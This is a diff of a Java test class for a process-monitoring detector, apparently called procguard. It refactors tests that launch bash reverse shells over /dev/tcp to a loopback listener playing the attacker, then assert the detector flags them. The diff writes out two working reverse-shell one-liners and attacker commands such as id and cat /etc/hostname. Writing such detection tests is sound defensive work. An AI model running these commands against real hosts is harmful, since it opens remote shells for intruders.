@@ -58,13 +58,16 @@ class RunDetectionTest {
         return worst;
     }
 
-    @Test
-    void bashDevTcpReverseShellWhoseChildExecsShOnTheSocketIsFlagged() throws Exception {
+    /**
+     * Plays the attacker: listens on loopback, sends {@code commands} to the shell that connects back and
+     * reads until it hangs up, while CMD (with {@code PORT} replaced by the listening port) runs under procguard.
+     */
+    private Status worstStatusOfReverseShell(String commands, List<String> reasons, String shellCommand) throws Exception {
         try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
             Thread attacker = new Thread(() -> {
                 try (Socket s = listener.accept()) {
                     OutputStream out = s.getOutputStream();
-                    out.write("id\nuname -a\nexit\n".getBytes(StandardCharsets.US_ASCII));
+                    out.write(commands.getBytes(StandardCharsets.US_ASCII));
                     out.flush();
                     InputStream in = s.getInputStream();
                     in.readAllBytes();
@@ -73,32 +76,27 @@ class RunDetectionTest {
                 }
             });
             attacker.start();
-            List<String> reasons = new ArrayList<>();
             Status worst = worstStatus(reasons, "/bin/bash", "-c",
-                    "exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + "; sh <&3 >&3 2>&3");
+                    shellCommand.replace("PORT", Integer.toString(listener.getLocalPort())));
             attacker.join(10_000);
-            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+            return worst;
         }
     }
 
     @Test
+    void bashDevTcpReverseShellWhoseChildExecsShOnTheSocketIsFlagged() throws Exception {
+        List<String> reasons = new ArrayList<>();
+        Status worst = worstStatusOfReverseShell("id\nuname -a\nexit\n", reasons,
+                "exec 3<>/dev/tcp/127.0.0.1/PORT; sh <&3 >&3 2>&3");
+        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+    }
+
+    @Test
     void interactiveBashReverseShellIsFlagged() throws Exception {
-        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
-            Thread attacker = new Thread(() -> {
-                try (Socket s = listener.accept()) {
-                    s.getOutputStream().write("cat /etc/hostname\nexit\n".getBytes(StandardCharsets.US_ASCII));
-                    s.getInputStream().readAllBytes();
-                } catch (IOException ignored) {
-                    // the shell may close first
-                }
-            });
-            attacker.start();
-            List<String> reasons = new ArrayList<>();
-            Status worst = worstStatus(reasons, "/bin/bash", "-c",
-                    "bash -i >& /dev/tcp/127.0.0.1/" + listener.getLocalPort() + " 0>&1");
-            attacker.join(10_000);
-            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
-        }
+        List<String> reasons = new ArrayList<>();
+        Status worst = worstStatusOfReverseShell("cat /etc/hostname\nexit\n", reasons,
+                "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1");
+        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
     }
 
     @Test
